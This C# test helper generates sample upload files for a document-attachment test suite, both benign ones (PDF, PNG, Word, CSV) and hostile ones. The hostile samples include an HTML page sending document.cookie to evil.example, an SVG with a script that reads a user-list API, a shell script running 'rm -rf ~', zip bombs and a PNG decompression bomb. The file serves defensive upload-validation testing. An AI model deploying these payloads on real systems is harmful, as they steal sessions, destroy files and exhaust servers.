using System.IO.Compression;
using System.Text;
using SkiaSharp;

namespace Suite.Docs.Tests;

/// <summary>Files to upload, made by the test itself: good ones of each kind and the ones an attacker would try.</summary>
internal static class AttachmentSamples
{
    public static byte[] Pdf() => Encoding.ASCII.GetBytes(
        "%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n" +
        "trailer << /Root 1 0 R >>\n%%EOF\n");

    /// <summary>A wide picture, so its thumbnail's longest side is its width.</summary>
    public static byte[] Png(int width = 800, int height = 400)
    {
        using var bitmap = new SKBitmap(width, height);
        using (var canvas = new SKCanvas(bitmap))
        {
            canvas.Clear(SKColors.SkyBlue);
            using var paint = new SKPaint { Color = SKColors.DarkRed };
            canvas.DrawCircle(width / 2f, height / 2f, Math.Min(width, height) / 3f, paint);
        }

        using var data = bitmap.Encode(SKEncodedImageFormat.Png, 100);
        return data.ToArray();
    }

    /// <summary>A Word document as Word writes one: the content types, the relationships and the main part in a zip.</summary>
    public static byte[] Docx() => Zip(
            ("[Content_Types].xml", """
                <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                <Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
                <Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
                <Default Extension="xml" ContentType="application/xml"/>
                <Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>
                </Types>
                """),
            ("_rels/.rels", """
                <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
                <Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>
                </Relationships>
                """),
            ("word/document.xml", """
                <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                <w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">
                <w:body><w:p><w:r><w:t>Договор поставки окон</w:t></w:r></w:p></w:body></w:document>
                """));

    public static byte[] Csv() => Encoding.UTF8.GetBytes("Наименование;Количество\nОкно ПВХ;2\nМонтаж;1\n");

    /// <summary>A Windows program: the MZ header, the PE offset and code bytes (NULs included, as every real one has).</summary>
    public static byte[] WindowsExecutable()
    {
        var bytes = new byte[4096];
        "MZ"u8.CopyTo(bytes);
        bytes[0x3C] = 0x80;
        "PE\0\0"u8.CopyTo(bytes.AsSpan(0x80));
        new Random(1).NextBytes(bytes.AsSpan(0x100));
        return bytes;
    }

    public static byte[] LinuxExecutable()
    {
        var bytes = new byte[4096];
        new byte[] { 0x7F, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1, 0 }.CopyTo(bytes, 0);
        new Random(2).NextBytes(bytes.AsSpan(64));
        return bytes;
    }

    public static byte[] SvgWithScript() => Encoding.UTF8.GetBytes("""
        <?xml version="1.0" encoding="UTF-8"?>
        <svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">
          <script type="text/javascript">fetch('/api/identity/users').then(r => r.text()).then(t => alert(t))</script>
          <circle cx="50" cy="50" r="40" fill="red"/>
        </svg>
        """);

    public static byte[] Html() => Encoding.UTF8.GetBytes("""

          <!DOCTYPE html>
        <html><body><script>document.location = 'https://evil.example/?c=' + document.cookie</script></body></html>
        """);

    public static byte[] ShellScript() => Encoding.UTF8.GetBytes("#!/bin/sh\nrm -rf ~\n");

    /// <summary>10 MB of zeros packed into a few kilobytes: more than 100 to 1.</summary>
    public static byte[] ZipBomb()
    {
        using var zip = new MemoryStream();
        using (var archive = new ZipArchive(zip, ZipArchiveMode.Create, leaveOpen: true))
        {
            using var entry = archive.CreateEntry("zeros.txt", CompressionLevel.SmallestSize).Open();
            var zeros = new byte[1024 * 1024];
            for (var i = 0; i < 10; i++)
                entry.Write(zeros);
        }

        return zip.ToArray();
    }

    /// <summary>Like 42.zip: zips of zips of zips, each small, so only the nesting gives it away.</summary>
    public static byte[] NestedZipBomb()
    {
        var inner = Zip(("a.txt", "text"));
        for (var level = 0; level < 3; level++)
            inner = Zip(Enumerable.Range(0, 4).Select(i => ($"layer{level}-{i}.zip", inner)).ToArray());
        return inner;
    }

    /// <summary>A zip holding one zip (a folder of scans sent as an archive inside an archive): one level is fine.</summary>
    public static byte[] ZipInZip() => Zip(("scans.zip", Zip(("scan.txt", "page 1"))));

    /// <summary>A PNG of a few bytes that claims to be 100,000 × 100,000 pixels: 40 GB once decoded.</summary>
    public static byte[] DecompressionBombPng()
    {
        using var png = new MemoryStream();
        png.Write([0x89, (byte)'P', (byte)'N', (byte)'G', 0x0D, 0x0A, 0x1A, 0x0A]);
        var header = new byte[13];
        System.Buffers.Binary.BinaryPrimitives.WriteInt32BigEndian(header, 100_000);
        System.Buffers.Binary.BinaryPrimitives.WriteInt32BigEndian(header.AsSpan(4), 100_000);
        header[8] = 8; // bit depth
        header[9] = 2; // truecolour
        Chunk(png, "IHDR", header);
        using (var compressed = new MemoryStream())
        {
            using (var zlib = new ZLibStream(compressed, CompressionLevel.SmallestSize, leaveOpen: true))
                zlib.Write(new byte[64 * 1024]);
            Chunk(png, "IDAT", compressed.ToArray());
        }

        Chunk(png, "IEND", []);
        return png.ToArray();
    }

    public static byte[] Zip(params (string Name, string Text)[] entries) =>
        Zip(entries.Select(e => (e.Name, Encoding.UTF8.GetBytes(e.Text))).ToArray());

    public static byte[] Zip(params (string Name, byte[] Content)[] entries)
    {
        using var zip = new MemoryStream();
        using (var archive = new ZipArchive(zip, ZipArchiveMode.Create, leaveOpen: true))
            foreach (var (name, content) in entries)
            {
                using var entry = archive.CreateEntry(name).Open();
                entry.Write(content);
            }

        return zip.ToArray();
    }

    private static void Chunk(Stream png, string type, byte[] data)
    {
        var length = new byte[4];
        System.Buffers.Binary.BinaryPrimitives.WriteInt32BigEndian(length, data.Length);
        png.Write(length);
        var typed = Encoding.ASCII.GetBytes(type).Concat(data).ToArray();
        png.Write(typed);
        var crc = new byte[4];
        System.Buffers.Binary.BinaryPrimitives.WriteUInt32BigEndian(crc, Crc32(typed));
        png.Write(crc);
    }

    private static uint Crc32(byte[] bytes)
    {
        var crc = 0xFFFFFFFFu;
        foreach (var b in bytes)
        {
            crc ^= b;
            for (var bit = 0; bit < 8; bit++)
                crc = (crc & 1) != 0 ? (crc >> 1) ^ 0xEDB88320u : crc >> 1;
        }

        return ~crc;
    }
}
